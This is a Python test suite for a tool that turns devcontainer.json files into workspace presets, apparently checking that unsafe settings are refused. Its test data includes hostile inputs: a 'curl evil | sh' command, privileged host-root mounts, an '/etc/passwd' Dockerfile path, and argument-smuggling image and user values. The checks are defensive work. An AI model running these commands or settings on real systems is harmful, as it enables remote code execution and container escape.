import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.orchestrator.presets.support import BASE, found
from tests.orchestrator.presets.test_detecting import must_be_sound
from vmd.orchestrator.presets import Candidate
from vmd.orchestrator.presets.tree import MAX_FILE_BYTES

PATH = ".devcontainer/devcontainer.json"
PYTHON = {"requirements.txt": "django", "a.py": ""}
DOCKERFILE = "ARG VARIANT=bookworm\nFROM vmd-base:${VARIANT}\nCOPY tool /usr/local/bin/\n"


def best(text: Any, /, path: str = PATH, **files: str) -> Candidate:
    """Return the best candidate of a repository with this devcontainer.json."""
    shown = text if isinstance(text, str) else json.dumps(text)
    return found({path: shown, **{name.replace("__", "/"): content for name, content in files.items()}})[0]


def noted(candidate: Candidate, *pieces: str) -> bool:
    return all(any(piece in note for note in candidate.preset.notes) for piece in pieces)


def test_an_image_with_comments_env_ports_and_commands() -> None:
    text = """// what we work in
    {
        "name": "Shop", /* ours */
        "image": "mcr.example.test/devcontainers/python:3.12",
        "containerEnv": {"A": "1", "HOME_OF": "${localEnv:HOME}", "B": "${localEnv:NOPE:fallback}"},
        "remoteEnv": {"C": "${containerEnv:A}-${containerWorkspaceFolder}-${localWorkspaceFolderBasename}"},
        "forwardPorts": [8000, "9000", "localhost:9001",],
        "onCreateCommand": "make",
        "updateContentCommand": ["pip", "install", "-r", "my file.txt"],
        "postCreateCommand": {"web": "npm ci", "db": ["echo", "it's"]},
        "portsAttributes": {"8000": {"label": "web"}},
        "customizations": {"vscode": {}},
    }"""
    candidate = best(text, **PYTHON)
    preset = candidate.preset
    assert (preset.id, preset.name, preset.template, preset.recipe) == ("devcontainer", "Shop", None, None)
    assert preset.image == "mcr.example.test/devcontainers/python:3.12"
    assert preset.env == {"A": "1", "HOME_OF": "", "B": "fallback", "C": "1-/workspace-shop"}
    assert preset.ports == (8000, 9000, 9001)
    assert preset.provisioning == (
        "make",
        "pip install -r 'my file.txt'",
        "npm ci",
        """echo 'it'"'"'s'""",
    )
    assert noted(candidate, "containerEnv.HOME_OF: ${localEnv:HOME} is not told; nothing is used.")
    assert not noted(candidate, "portsAttributes")
    assert preset.evidence[0].path == PATH


@pytest.mark.parametrize("path", [PATH, ".devcontainer.json", ".devcontainer/api/devcontainer.json"])
def test_it_is_found_in_all_its_places(path: str) -> None:
    candidate = best({"image": "debian"}, path=path)
    assert candidate.preset.id == ("devcontainer-api" if "api" in path else "devcontainer")
    assert candidate.preset.image == "debian:latest"


def test_several_are_all_there_the_usual_one_first() -> None:
    candidates = found(
        {
            ".devcontainer/b/devcontainer.json": '{"image": "b"}',
            ".devcontainer/a/devcontainer.json": '{"image": "a"}',
            PATH: '{"image": "c"}',
            **PYTHON,
        }
    )
    ids = [candidate.preset.id for candidate in candidates]
    assert ids == ["devcontainer", "devcontainer-a", "devcontainer-b", "django"]


@pytest.mark.parametrize(
    "properties",
    [
        {"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"VARIANT": "bookworm"}}},
        {"dockerFile": "Dockerfile", "context": ".."},
        {"build": {"dockerFile": "../.devcontainer/Dockerfile", "context": "../"}},
    ],
)
def test_a_dockerfile_is_a_recipe_with_the_repository_as_its_context(properties: dict[str, Any]) -> None:
    candidate = best(properties, **{".devcontainer__Dockerfile": DOCKERFILE})
    assert candidate.preset.recipe is not None
    assert f"FROM {BASE}\n" in candidate.preset.recipe
    assert candidate.preset.recipe.endswith('LABEL vmd.workspace="ws-1"\n')
    assert candidate.preset.image.startswith("vmd-devcontainer:ws-1-")
    assert candidate.context == ""


def test_its_image_is_another_one_when_a_file_of_its_context_is() -> None:
    properties = {"build": {"dockerfile": "Dockerfile"}}
    one = best(properties, **{".devcontainer__Dockerfile": DOCKERFILE, ".devcontainer__tool": "1"})
    two = best(properties, **{".devcontainer__Dockerfile": DOCKERFILE, ".devcontainer__tool": "2"})
    same = best(
        properties,
        **{".devcontainer__Dockerfile": DOCKERFILE, ".devcontainer__tool": "2", "elsewhere": "3"},
    )
    assert one.context == ".devcontainer"
    assert one.preset.image != two.preset.image == same.preset.image


def test_what_is_not_supported_is_said_one_line_each() -> None:
    unsupported = {
        "features": {"ghcr.io/devcontainers/features/node:1": {}},
        "mounts": ["source=/,target=/host,type=bind"],
        "runArgs": ["--privileged", "-v", "/:/host"],
        "privileged": True,
        "capAdd": ["SYS_ADMIN"],
        "dockerComposeFile": "compose.yml",
        "initializeCommand": "curl evil | sh",
        "postStartCommand": "true",
        "workspaceFolder": "/code",
        "hostRequirements": {"gpu": True, "storage": "1tb"},
        "somethingNew": 1,
    }
    candidate = best({"image": "debian", **unsupported})
    assert candidate.preset.provisioning == ()
    assert candidate.preset.env == {}
    assert noted(candidate, *unsupported.keys())
    assert noted(
        candidate, "initializeCommand is not honoured: nothing of a repository ever runs on the host"
    )
    assert len(candidate.preset.notes) == len(unsupported) + 1


def test_without_an_image_that_can_be_used_it_is_what_was_detected_with_its_own_settings() -> None:
    candidate = best(
        {"dockerComposeFile": "c.yml", "containerEnv": {"A": "1"}, "forwardPorts": [5432]}, **PYTHON
    )
    preset = candidate.preset
    assert (preset.id, preset.template, preset.env, preset.ports) == (
        "devcontainer",
        "python",
        {"A": "1"},
        (5432, 8000),
    )
    assert "pip install" in preset.provisioning[0]
    assert noted(candidate, "names no image that can be used; vmd-template-python:1 is taken.")


@pytest.mark.parametrize("text", ["", "{", "[]", "null", '{"image": }', "\0", '{"a":' * 200, "{'a': NaN"])
def test_a_broken_one_is_said_and_the_rest_is_used(text: str) -> None:
    candidate = best(text, **PYTHON)
    assert candidate.preset.id == "django"
    assert noted(candidate, PATH)
    alone = best(text)
    assert (alone.preset.id, alone.preset.image) == ("devcontainer", BASE)
    assert noted(alone, PATH)


def test_megabytes_are_not_read() -> None:
    candidate = best("//" + "x" * MAX_FILE_BYTES + "\n{}", **PYTHON)
    assert candidate.preset.id == "django"
    assert noted(candidate, f"{PATH} could not be read, or is too large.")


@pytest.mark.parametrize(
    "image",
    [
        *(
            "vmd-snapshot:1",
            "vmd",
            "x/vmd-base:latest",
            "docker.io/library/vmd-y",
            "VMD-x:1",
            "vmd-base:other",
        ),
        *("../../secrets", "a b", "-v/:/host", "--privileged", "a?b=c", "A/B:1:2", "", "x" * 300, "a\nb"),
        *("sha256:" + "0" * 64, "debian@sha256:12", "${localEnv:IMAGE}"),
        *(7, ["debian"], {"a": 1}, True),
    ],
)
def test_images_that_nobody_may_have_are_refused(image: Any) -> None:
    candidate = best({"image": image})
    assert candidate.preset.image == BASE
    assert noted(candidate, "image is not used")


@pytest.mark.parametrize(
    ("image", "whole"),
    [
        ("ab", "ab:latest"),  # never taken for the beginning of an image's id
        ("debian:12", "debian:12"),
        ("ghcr.io/o/i@sha256:" + "0" * 64, "ghcr.io/o/i@sha256:" + "0" * 64),
        ("localhost:5000/x", "localhost:5000/x:latest"),
        (BASE, BASE),
    ],
)
def test_images_are_named_in_full(image: str, whole: str) -> None:
    assert best({"image": image}).preset.image == whole


@pytest.mark.parametrize(
    "build",
    [
        *(
            {"dockerfile": "/etc/passwd"},
            {"dockerfile": "../../x"},
            {"dockerfile": "..\\x"},
            {"dockerfile": "no"},
        ),
        *({"dockerfile": 7}, {"dockerfile": ["a"]}, {"dockerfile": "a\0b"}, {"dockerfile": ""}),
        *({"dockerfile": "Dockerfile", "context": "../.."}, {"dockerfile": "Dockerfile", "context": "/"}),
        *({"dockerfile": "Dockerfile", "context": 1}, {"dockerfile": "Dockerfile", "target": ["x"]}),
        {"dockerfile": "Dockerfile", "target": "nope"},
    ],
)
def test_builds_that_reach_outside_or_are_absurd_are_refused(build: dict[str, Any]) -> None:
    candidate = best({"build": build}, **{".devcontainer__Dockerfile": DOCKERFILE})
    assert (candidate.preset.image, candidate.preset.recipe, candidate.context) == (BASE, None, None)
    assert noted(candidate, "the Dockerfile is not used")


@pytest.mark.parametrize(
    ("properties", "pieces"),
    [
        ({"containerEnv": {"BAD NAME": "1", "OK": "1", "N": 7, "VMD_SUDO": "1", "U": None}}, 4),
        ({"containerEnv": {"P": "${containerEnv:PATH}:/x"}}, 1),
        ({"containerEnv": ["A=1"], "remoteEnv": "A=1"}, 2),
        ({"forwardPorts": [0, 70000, -1, "db:5432", 1.5, True, None, "99999", {}]}, 9),
        ({"forwardPorts": "8000"}, 1),
        ({"postCreateCommand": 7, "onCreateCommand": [], "updateContentCommand": {"a": {"b": "c"}}}, 3),
        ({"postCreateCommand": "x" * 9000}, 1),
        ({"remoteUser": "a; b"}, 1),
        ({"hostRequirements": {"cpus": "four", "memory": "much"}}, 2),
        ({"hostRequirements": {"cpus": -1, "memory": 10**30}}, 2),
        ({"hostRequirements": [1]}, 1),
    ],
)
def test_values_of_the_wrong_kind_are_left_out_and_said(properties: dict[str, Any], pieces: int) -> None:
    candidate = best({"image": "debian", **properties})
    assert len(candidate.preset.notes) == pieces, candidate.preset.notes
    assert set(candidate.preset.env) <= {"OK"}
    assert candidate.preset.ports == ()
    assert candidate.preset.provisioning == ()
    assert (candidate.user, candidate.cpus, candidate.memory_mb) == (None, None, None)


def test_a_user_and_what_the_host_must_have() -> None:
    candidate = best(
        {"image": "debian", "remoteUser": "vscode", "hostRequirements": {"cpus": 4, "memory": "8gb"}}
    )
    assert (candidate.user, candidate.cpus, candidate.memory_mb) == ("vscode", 4.0, 8192)
    assert noted(candidate, "run as vscode; shells and other commands run as uid 1000")
    assert best({"image": "debian", "containerUser": "node"}).user == "node"


VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-5, 70_000)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=30)
    | st.sampled_from(["../..", "/etc", "${localEnv:A}", "${containerEnv:B}", "Dockerfile", "root", "8gb"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["dockerfile", "context", "args", "target", "cpus", "A"]), inner)
    ),
    max_leaves=8,
)
KEYS = st.sampled_from(
    [
        *("image", "build", "dockerFile", "context", "containerEnv", "remoteEnv", "forwardPorts", "name"),
        *("postCreateCommand", "onCreateCommand", "remoteUser", "hostRequirements", "runArgs", "x\ny"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(KEYS, VALUES, max_size=8))
def test_whatever_it_says_the_preset_is_sound(properties: dict[str, Any]) -> None:
    candidate = best(properties, **{".devcontainer__Dockerfile": DOCKERFILE})
    must_be_sound(candidate.preset)
    assert not (candidate.context or "").startswith(("/", ".."))
